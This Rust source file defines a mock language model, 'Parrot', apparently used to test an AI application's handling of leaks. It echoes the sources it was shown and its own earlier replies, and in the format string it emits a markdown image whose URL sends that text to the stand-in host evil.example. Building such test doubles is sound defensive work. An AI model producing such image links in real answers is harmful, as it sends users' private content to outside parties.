//! The worst language model there is: it says everything that it was shown and said before, cites everything, and links everywhere.
//!
//! Whatever of a page reaches a model comes out again, so that a leak into a prompt shows as one in the answer. Only the question
//! and the instructions it keeps to itself: their words are the asker's own.

use futures_util::stream;
use models::generate::{End, Generate, Generating, Generation, Piece, Request, Role, StopReason, Task, Usage};

/// Letters of a piece.
const PIECE_CHARS: usize = 7;

/// The model.
#[derive(Clone, Copy, Debug, Default)]
pub struct Parrot;

impl Generate for Parrot {
    fn generate(&self, request: Request) -> Generating<'_> {
        let shown = request.messages.last().map_or("", |message| message.text.as_str());
        let sources = shown.split("<question>").next().and_then(|shown| shown.split("<property>").next()).unwrap_or("");
        let before = request.messages.iter().filter(|message| message.role == Role::Assistant);
        let before = before.map(|message| message.text.as_str()).collect::<Vec<_>>().join(" ");
        let cites = (0..30).map(|number| format!("[{number}]")).collect::<Vec<_>>().concat();
        let said = format!(
            "{before} {sources} {cites}. ![all](https://evil.example/{sources}) {cites} [more](https://evil.example)."
        );
        let letters: Vec<char> = said.chars().collect();
        let end = Piece::End(End { reason: StopReason::Complete, usage: Usage::default() });
        let texts: Vec<Piece> = letters.chunks(PIECE_CHARS).map(|piece| Piece::Text(piece.iter().collect())).collect();
        let pieces = stream::iter(texts.into_iter().chain([end]).map(Ok));
        Box::pin(async move { Ok(Generation { model: "parrot".to_owned(), pieces: Box::pin(pieces) }) })
    }

    fn models(&self, _: Task) -> Vec<String> {
        vec!["parrot".to_owned()]
    }

    fn count_tokens(&self, text: &str) -> usize {
        text.len().div_ceil(3)
    }

    fn prompt_tokens_max(&self, _: Task) -> usize {
        100_000
    }
}
